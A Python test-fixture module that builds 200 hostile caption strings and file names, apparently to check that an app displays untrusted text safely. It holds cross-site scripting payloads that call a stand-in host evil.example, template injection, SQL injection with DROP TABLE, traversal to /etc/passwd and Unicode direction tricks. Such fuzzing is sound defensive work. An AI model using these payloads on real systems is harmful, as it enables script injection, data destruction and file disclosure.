"""What would a caption say that wants to run a script, call home, or break the page? 200 such strings."""

from __future__ import annotations

from itertools import product

HOME = "http://evil.example/x"
_RUN = "window.pwned=1"
_BLOWS = (
    f"<script>{_RUN}</script>",
    f"<script src={HOME}.js></script>",
    f'<img src="{HOME}.png" onerror="{_RUN}">',
    f"<svg onload={_RUN}><image href={HOME}.png /></svg>",
    f"<iframe src='{HOME}.html' srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<style>@import '{HOME}.css'; body {{ background: url({HOME}.png) }}</style>",
    f'<link rel=stylesheet href="{HOME}.css"><base href="{HOME}/">',
    f"<video src={HOME}.mp4 autoplay onerror={_RUN}></video><audio src={HOME}.mp3 autoplay></audio>",
    f"<object data={HOME}.swf></object><embed src={HOME}.swf>",
    f'<meta http-equiv="refresh" content="0; url={HOME}">',
    f"<details open ontoggle={_RUN}><input autofocus onfocus={_RUN}></details>",
    f"![a picture]({HOME}.png)",
    f"[![badge]({HOME}.svg)](javascript:{_RUN}) <{HOME}> [ref]: {HOME}",
    f"$\\href{{javascript:{_RUN}}}{{x}}$ $$\\includegraphics{{{HOME}.png}}$$ costs $5 and $6",
    ":material/bug_report: :red[red] :blue-background[blue] :smile: <!-- ",
    f"%7B%7Bconstructor.constructor('{_RUN}')()%7D%7D ${{{_RUN}}} {{{{7*7}}}}",
    "\u202egnp.exe\u202c \u2066hidden\u2069 zero\u200bwidth\u200d\ufeff a\u0301\u0302\u0303\u0304\u0305\u0306\u0307",
    "\x1b[31mred\x1b[0m \x07\x08 \r\n\r\n# heading\n---\n| a | b |\n|---|---|\n\n    code\n",
    "'; DROP TABLE scores; -- \" OR 1=1 /* */ ' || (SELECT 1) || '",
    f"data:text/html,<script>{_RUN}</script> javascript:{_RUN} ../../../../etc/passwd \\\\evil.example\\share",
)
_WRAPS = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea></title></style></script>{}",
    "]]>-->{}<!--",
    "`{}`",
    "a photo of a dog {} on a sofa",
    "{}\n\n{}",
    "\u202e{}",
)
_LONG = 100_000


def strings() -> tuple[str, ...]:
    """200 different strings: every blow in nine wrappings, and 20 that are 100 kB long."""
    wrapped = [wrap.replace("{}", blow) for wrap, blow in product(_WRAPS, _BLOWS)]
    return (*wrapped, *(blow + " " + _stuffing(place) for place, blow in enumerate(_BLOWS)))


def file_names() -> tuple[str, ...]:
    """The same as names of files, 200 different ones: without the two characters that a name cannot have, and short."""
    plain = (text.translate({ord("/"): "\u2215", 0: None})[:50] for text in strings())
    return tuple(f"{text} {number}" for number, text in enumerate(plain))


def _stuffing(place: int) -> str:
    """100 kB without a place to break the line, or with nothing but such places."""
    return ("w" * _LONG, "long words " * (_LONG // 11), "\n" * _LONG, "\u200b" * (_LONG // 3))[place % 4]
